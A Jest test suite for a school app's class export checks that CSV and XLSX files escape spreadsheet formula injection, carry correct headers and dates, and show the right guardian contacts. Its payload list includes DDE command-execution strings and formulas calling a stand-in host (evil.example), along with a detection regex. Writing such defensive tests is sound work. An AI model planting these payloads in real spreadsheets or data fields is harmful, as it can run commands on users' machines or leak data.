import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import exceljs from 'exceljs';
import type { People, Teacher } from '../../support/builders/people.js';
import type { World } from '../../support/world.js';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","ici")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '+SUM(1;1)',
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\t1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  ' \t+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1+1',
  '=1+1";"=2+2',
  '";=1+1',
  '";"=1+1',
  '"=1+1"',
  '\n"=1+1',
  ';=1+1',
  ',=1+1',
  '=1+1\n=2+2',
  '=DDE("cmd";"/C calc";"x")',
  "'=1+1",
  '=“1”&“1”',
  '==1',
];
const DANGEROUS = /^(?:[\t\r\n]|[\s\u200b\ufeff]*[=+\-@＝＋－＠])/u;
const shown = (text: string) => (DANGEROUS.test(text) ? `'${text}` : text);

export const describeExports = (story: () => { world: World; people: People }) =>
  describe('exports of a class (T17)', () => {
    let world: World;
    let teacher: Teacher;
    let classId: string;
    let people: People;
    let modelId: string;
    const path = (ending: string, query = '') => `/api/classes/${classId}/export.${ending}${query}`;
    const csv = async (query = '') => {
      const { status, body, headers } = await teacher.client.get<string>(path('csv', query));
      expect(status).toBe(200);
      return { text: body, rows: parse(body, { bom: true, delimiter: ';' }) as string[][], headers };
    };
    const xlsx = async () => {
      const { body, headers } = await teacher.client.get<Buffer>(path('xlsx'));
      const workbook = new exceljs.Workbook();
      await workbook.xlsx.load(new Uint8Array(body).buffer);
      const sheet = workbook.worksheets[0];
      if (!sheet) throw new Error('no sheet');
      return { sheet, headers };
    };

    beforeAll(async () => {
      expect(FORMULAS).toHaveLength(40);
      ({ world, people } = story());
      teacher = await people.teacher();
      classId = await people.classGroup(teacher);
      const model = await people.student(classId, { lastName: 'Zola', firstName: 'Emma', age: 16 });
      // Formulas in names, which a sign-up rejects but a row may hold.
      for (const [index, formula] of FORMULAS.entries()) {
        await world.query(
          `with person as (
           insert into account (id, email, email_verified, name, first_name, last_name)
           values (gen_random_uuid(), $1, true, 'x', $2, $2) returning id)
         insert into student (id, account_id, first_name, last_name, class_group_id, birth_date)
         select gen_random_uuid(), person.id, $2, $2, $3, '2005-06-07' from person`,
          [`formule-${index}@sucre.example`, formula, classId],
        );
      }
      modelId = model.studentId;
    });

    it('as CSV: every cell is quoted, none begins like a formula, and the text is the one that was stored', async () => {
      const { text, rows, headers } = await csv();
      expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="seve-bts-metiers-de-la-chimie-1-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(headers.get('cache-control')).toBe('no-store');
      expect(text.replace(/^\ufeff/, '')).toMatch(/^"Nom";"Prénom";"Courriel";"Commune";"État"/);
      expect(text).toMatch(/"\r\n$/);
      const cells = rows.slice(1).flat();
      expect(cells.filter((cell) => DANGEROUS.test(cell))).toEqual([]);
      const names = rows.slice(1).map(([lastName]) => lastName);
      expect([...names].sort()).toEqual(['Zola', ...FORMULAS.map(shown)].sort());
    });

    it('as XLSX: not one formula cell; texts are texts, the same ones, and what counts is a number', async () => {
      const { sheet } = await xlsx();
      const types = new Set<number>();
      const names: string[] = [];
      sheet.eachRow((row, number) => {
        row.eachCell((cell) => types.add(cell.type));
        if (number > 1) names.push(row.getCell(1).text);
        row.eachCell((cell) => expect(cell.formula).toBeUndefined());
      });
      expect([...types].sort()).toEqual([exceljs.ValueType.Number, exceljs.ValueType.String]);
      const withoutLineEnds = (text: string) => text.replace(/\r\n?/g, '\n');
      expect(names.map(withoutLineEnds).sort()).toEqual(['Zola', ...FORMULAS.map(shown)].map(withoutLineEnds).sort());
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    });

    it('has dates and numbers that a spreadsheet computes with: typed as XLSX, ISO 8601 as CSV', async () => {
      await teacher.client.post(`/api/classes/${classId}/students/${modelId}/notes`, {
        kind: 'phone',
        happenedOn: '2026-01-05',
        text: 'Rappelé.',
      });
      const { sheet } = await xlsx();
      const heads = (sheet.getRow(1).values as string[]).slice(1);
      const model = sheet.getRows(2, sheet.rowCount - 1)?.find((row) => row.getCell(1).text === 'Zola');
      const cell = (head: string) => model?.getCell(heads.indexOf(head) + 1);
      expect(cell('Candidatures')?.value).toBe(0);
      expect(cell('Jours sans acte')?.type).toBe(exceljs.ValueType.Number);
      expect(cell('Dernier contact de l’enseignant')?.value).toEqual(new Date('2026-01-05T00:00:00Z'));
      expect(cell('Dernier contact de l’enseignant')?.numFmt).toBe('dd/mm/yyyy');
      expect(cell('Dernier acte de l’élève')?.value).toBeNull();
      const { rows } = await csv();
      const line = rows.find(([lastName]) => lastName === 'Zola') ?? [];
      expect(line[rows[0]?.indexOf('Dernier contact de l’enseignant') ?? 0]).toBe('2026-01-05');
    });

    it('holds the addresses that the teacher may read: of the student, and of the guardian of a minor alone', async () => {
      const adult = await people.student(classId, { lastName: 'Yvon' });
      for (const [id, name] of [
        [modelId, 'mineure'],
        [adult.studentId, 'majeur'],
      ]) {
        await world.query(
          "insert into guardian (student_id, first_name, last_name, email, phone) values ($1, 'Paul', 'Zola', $2, '0612345678')",
          [id, `${name}@maison.example`],
        );
      }
      const { rows, text } = await csv();
      const [heads = [], ...lines] = rows;
      const of = (lastName: string, head: string) => lines.find(([one]) => one === lastName)?.[heads.indexOf(head)];
      expect(of('Yvon', 'Courriel')).toBe(adult.email);
      expect([of('Zola', 'Responsable légal'), of('Zola', 'Courriel du responsable'), of('Zola', 'Téléphone du responsable')]).toEqual([
        'Paul Zola',
        'mineure@maison.example',
        '0612345678',
      ]);
      expect(text).not.toContain('majeur@maison.example');
      await world.query('update student set class_group_id = null where id = $1', [adult.studentId]);
    });

    it('holds no birth date', async () => {
      const { text } = await csv();
      expect(text).not.toMatch(/2005-06-07|07\/06\/2005/);
      expect(text).not.toMatch(/naissance/i);
    });

    it('holds the rows that the table shows under the same filters, in the same order', async () => {
      const { rows } = await csv('?age=mineur');
      expect(rows.slice(1).map(([lastName]) => lastName)).toEqual(['Zola']);
      expect((await csv('?etat=placed')).rows).toHaveLength(1);
      const unknown = await teacher.client.get<{ errors?: { path: string }[] }>(path('csv', '?etat=perdu'));
      expect({ status: unknown.status, path: unknown.body.errors?.[0]?.path }).toEqual({ status: 400, path: 'etat' });
    });

    it('is headed in the language of the reader', async () => {
      await teacher.client.agent
        .get(path('csv'))
        .set('accept-language', 'en')
        .expect(/"Last name";"First name";"E-mail";"Town";"State"/);
    });
  });
